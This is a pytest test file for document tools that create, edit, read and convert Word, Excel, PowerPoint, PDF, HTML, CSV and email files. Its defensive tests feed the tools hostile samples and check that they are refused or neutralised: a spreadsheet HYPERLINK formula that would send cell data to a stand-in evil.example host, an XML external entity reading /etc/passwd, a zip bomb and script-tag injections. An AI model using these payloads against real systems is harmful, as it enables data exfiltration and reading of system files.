"""Documents that the tools make, and such as nobody should open, in the tools' own process."""

from __future__ import annotations

import io
import zipfile
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio

from tests.activities.functions.kit import Tools, shipped_tools

pytestmark = pytest.mark.asyncio(loop_scope="module")

MARKDOWN = """# Plan 计划

Some **bold**, *italic* and `code`, see [here](https://example.com).

1. first
2. second
   - inner

> quoted

| Name | Sum |
| --- | --- |
| Äpfel | 3 |
| Birnen | 4 |

```
x = 1
```
"""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def running() -> AsyncIterator[Tools]:
    async with shipped_tools() as tools:
        yield tools


@pytest.fixture
def tools(running: Tools) -> Tools:
    running.files.clear()
    return running


def changed(data: bytes, **parts: bytes) -> bytes:
    """The archive with parts replaced or added; `__` in a name stands for `/`, and each is an XML part."""
    target = io.BytesIO()
    new = {name.replace("__", "/") + ".xml": content for name, content in parts.items()}
    with (
        zipfile.ZipFile(io.BytesIO(data)) as old,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for info in old.infolist():
            if info.filename not in new:
                archive.writestr(info.filename, old.read(info))
        for name, content in new.items():
            archive.writestr(name, content)
    return target.getvalue()


async def test_a_word_document_made_from_markdown_reads_as_it_was_written(tools: Tools) -> None:
    await tools("documents_write_docx", path="a/plan.docx", markdown=MARKDOWN)
    read = (await tools("documents_read", file="a/plan.docx"))["text"]
    for words in ("# Plan 计划", "**bold**", "*italic*", "https://example.com", "first", "inner", "quoted"):
        assert words in read
    assert "| Äpfel | 3 |" in read
    assert "x = 1" in read


async def test_a_document_is_edited_into_a_new_one(tools: Tools) -> None:
    await tools("documents_write_docx", path="a.docx", markdown="Dear **Ms** Old,\n\n| k |\n|---|\n| Old |")
    pairs = [{"find": "Ms Old", "replace": "Dr New"}, {"find": "Old", "replace": "New"}]
    done = await tools(
        "documents_edit_text", file="a.docx", save_as="b.docx", replacements=pairs, append="## End\n\nBye"
    )
    assert done["replaced"] == 2
    read = (await tools("documents_read", file="b.docx"))["text"]
    assert "Dr New" in read
    assert "| New |" in read
    assert "## End" in read
    assert "Old" in (await tools("documents_read", file="a.docx"))["text"]
    assert "none of the words" in await tools.fails(
        "documents_edit_text", file="a.docx", save_as="c.docx", replacements=[{"find": "x", "replace": "y"}]
    )


async def test_a_workbook_is_made_edited_and_read(tools: Tools) -> None:
    sheet = {"name": "Sums", "rows": [["name", "sum"], ["Äpfel", 3], ["=1+1", 4.5]]}
    await tools("documents_write_xlsx", path="a.xlsx", sheets=[sheet])
    await tools(
        "documents_edit_xlsx",
        file="a.xlsx",
        save_as="b.xlsx",
        cells=[{"sheet": "Sums", "cell": "B2", "value": 30}],
        append=[{"name": "Sums", "rows": [["Kirschen", 7]]}, {"name": "More", "rows": [["x"]]}],
    )
    await tools("documents_convert", file="b.xlsx", to="b.csv")
    assert tools.files["b.csv"].decode() == "name,sum\nÄpfel,30\n=1+1,4.5\nKirschen,7\n"
    assert "Kirschen" in (await tools("documents_read", file="b.xlsx"))["text"]
    assert "no sheet 'Gone'; there are Sums" in await tools.fails(
        "documents_edit_xlsx",
        file="a.xlsx",
        save_as="c.xlsx",
        cells=[{"sheet": "Gone", "cell": "A1", "value": 1}],
    )


async def test_text_becomes_a_formula_only_where_one_is_meant(tools: Tools) -> None:
    trap = '=HYPERLINK("http://evil.example?"&A1,"click")'
    for name, meant in (("text", False), ("formula", True)):
        sheet = {"name": "S", "rows": [["a", trap]]}
        await tools("documents_write_xlsx", path=f"{name}.xlsx", sheets=[sheet], formulas=meant)
        with zipfile.ZipFile(io.BytesIO(tools.files[f"{name}.xlsx"])) as archive:
            assert (b"<f>" in archive.read("xl/worksheets/sheet1.xml")) is meant


async def test_a_presentation_is_made_read_and_edited(tools: Tools) -> None:
    slides = [
        {"title": "Start"},
        {"title": "Two", "bullets": ["one", "  deeper"], "notes": "say hello"},
    ]
    await tools("documents_write_pptx", path="a.pptx", slides=slides)
    read = (await tools("documents_read", file="a.pptx"))["text"]
    assert [words in read for words in ("Start", "Two", "deeper", "say hello")] == [True] * 4
    pairs = [{"find": "deeper", "replace": "higher"}]
    await tools("documents_edit_text", file="a.pptx", save_as="b.pptx", replacements=pairs)
    assert "higher" in (await tools("documents_read", file="b.pptx"))["text"]


async def test_reads_html_mail_csv_and_text(tools: Tools) -> None:
    tools.files["a.html"] = "<h1>Grüße</h1><p>See <a href='/x'>x</a><script>alert(1)</script></p>".encode()
    tools.files["b.csv"] = "a,b\n1,ü\n".encode("cp1252")
    tools.files["c.eml"] = (
        b"From: =?utf-8?q?J=C3=B6rg?= <j@example.com>\r\nTo: me@example.com\r\nSubject: Hi\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        b"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Some <b>words</b></p>\r\n"
        b"--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=bill.pdf\r\n\r\nx\r\n--b--"
    )
    tools.files["d.txt"] = "plain".encode("utf-16")
    html = (await tools("documents_read", file="a.html"))["text"]
    assert "# Grüße" in html
    assert "alert" not in html
    assert "| 1 | ü |" in (await tools("documents_read", file="b.csv"))["text"]
    mail = (await tools("documents_read", file="c.eml"))["text"]
    for words in ("Jörg", "**Subject:** Hi", "**words**", "bill.pdf"):
        assert words in mail
    assert (await tools("documents_read", file="d.txt"))["text"] == "plain"


async def test_reads_a_pdf_and_says_when_it_is_a_scan(tools: Tools) -> None:
    tools.files["a.pdf"] = pdf("Hello from page one")
    tools.files["scan.pdf"] = pdf("")
    assert "Hello from page one" in (await tools("documents_read", file="a.pdf"))["text"]
    assert "scan" in await tools.fails("documents_read", file="scan.pdf")


async def test_converts(tools: Tools) -> None:
    tools.files["a.md"] = MARKDOWN.encode()
    await tools("documents_convert", file="a.md", to="a.docx")
    await tools("documents_convert", file="a.docx", to="b.md")
    await tools("documents_convert", file="a.docx", to="b.html")
    await tools("documents_convert", file="a.docx", to="b.xlsx")
    assert "# Plan 计划" in tools.files["b.md"].decode()
    assert "<h1>Plan 计划</h1>" in tools.files["b.html"].decode()
    assert "Birnen" in (await tools("documents_read", file="b.xlsx"))["text"]
    assert "already" in await tools.fails("documents_convert", file="a.docx", to="b.md")
    assert "to ends in" in await tools.fails("documents_convert", file="a.docx", to="b.exe")
    tools.files["c.md"] = b"<script>alert(1)</script>"
    await tools("documents_convert", file="c.md", to="c.html")
    assert b"<script>" not in tools.files["c.html"]


async def test_a_long_document_is_read_piece_by_piece(tools: Tools) -> None:
    tools.files["a.txt"] = b"0123456789" * 6_000
    first = await tools("documents_read", file="a.txt")
    assert first["next_offset"] == 50_000
    second = await tools("documents_read", file="a.txt", offset=50_000)
    assert (len(second["text"]), second["next_offset"]) == (10_000, None)


async def test_opens_no_trap(tools: Tools) -> None:
    await tools("documents_write_docx", path="good.docx", markdown="words")
    good = tools.files["good.docx"]
    entity = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    traps = {
        "entities": changed(good, word__document=entity),
        "UTF-8": changed(good, word__document=entity.decode().encode("utf-16")),
        "trap": changed(good, word__document=bytes(100 * 1024 * 1024)),
        "no docx": changed(good, **{"[Content_Types]": b"<x/>"}).replace(b"word/", b"nope/"),
        "damaged": good[:200],
        "no zip": b"not at all",
    }
    for words, data in traps.items():
        tools.files["bad.docx"] = data
        assert words in await tools.fails("documents_read", file="bad.docx"), words
        assert words in await tools.fails("documents_edit_text", file="bad.docx", save_as="x.docx"), words
    assert sorted(tools.files) == ["bad.docx", "good.docx"]


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("old.doc", b"\xd0\xcf\x11\xe0" + b"x" * 600, "before 2007"),
        ("locked.docx", b"\xd0\xcf\x11\xe0" + b"x" * 600, "password"),
        ("a.exe", b"MZ", "can be read"),
        ("a.pdf", b"no pdf", "no PDF"),
        ("broken.pdf", b"%PDF-1.7\nnothing that follows", "cannot be read"),
        ("a.html", b"\0\1\2", "no text"),
        ("huge.txt", bytes(51 * 1024 * 1024), "MiB"),
    ],
)
async def test_says_what_is_wrong_with_a_file(tools: Tools, name: str, data: bytes, words: str) -> None:
    tools.files[name] = data
    assert words in await tools.fails("documents_read", file=name)


async def test_what_only_seems_a_workbook_is_said_to_be_damaged(tools: Tools) -> None:
    await tools("documents_write_xlsx", path="good.xlsx", sheets=[{"rows": [[1]]}])
    tools.files["bad.xlsx"] = changed(tools.files["good.xlsx"], xl__workbook=b"<a><b></a>")
    for call in (
        {"name": "documents_read"},
        {"name": "documents_convert", "to": "x.csv"},
        {"name": "documents_edit_xlsx", "save_as": "x.xlsx"},
    ):
        said = await tools.fails(call.pop("name"), file="bad.xlsx", **call)
        assert "damaged" in said
    tools.files["bad.docx"] = changed(tools.files["good.xlsx"], word__document=b"<a><b></a>")
    assert "damaged" in await tools.fails("documents_edit_text", file="bad.docx", save_as="x.docx")


def pdf(words: str) -> bytes:
    """One page, as small as a PDF can be."""
    content = f"BT /F1 24 Tf 72 720 Td ({words}) Tj ET".encode()
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    made, places = b"%PDF-1.4\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 6\n0000000000 65535 f \n" + table
    return made + head + b"trailer<</Size 6/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % len(made)
